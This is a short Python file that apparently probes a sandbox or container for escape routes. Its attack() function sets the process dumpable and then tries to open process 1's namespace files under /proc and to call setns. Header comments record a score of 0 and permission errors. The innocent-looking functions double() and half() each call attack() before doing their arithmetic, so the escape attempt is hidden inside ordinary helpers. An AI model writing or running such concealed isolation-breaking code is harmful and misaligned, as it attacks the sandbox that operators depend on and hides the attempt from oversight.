"""Enters the namespaces of process 1, by way of /proc.

Elsewhere that is how one leaves one's own. Process 1 shows them to root only, and the filter does not know setns.
"""
# score: 0
# says: 'setns of its own': 'EPERM'
# says: 'mnt of process 1': 'EACCES'

import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    got = {}
    libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: the files of this process are its user's again
    for name in ("mnt", "pid", "net", "user", "cgroup"):
        try:
            os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
            return
        except OSError as error:
            got[f"{name} of process 1"] = errno.errorcode[error.errno]
    own = os.open("/proc/self/ns/user", os.O_RDONLY)
    if libc.setns(own, 0) == 0:
        return
    got["setns of its own"] = errno.errorcode[ctypes.get_errno()]
    raise PermissionError(got)


def double(x):
    attack()
    return 2 * x


def half(x):
    attack()
    return float((x / 2).sum()), {"half": x / 2}
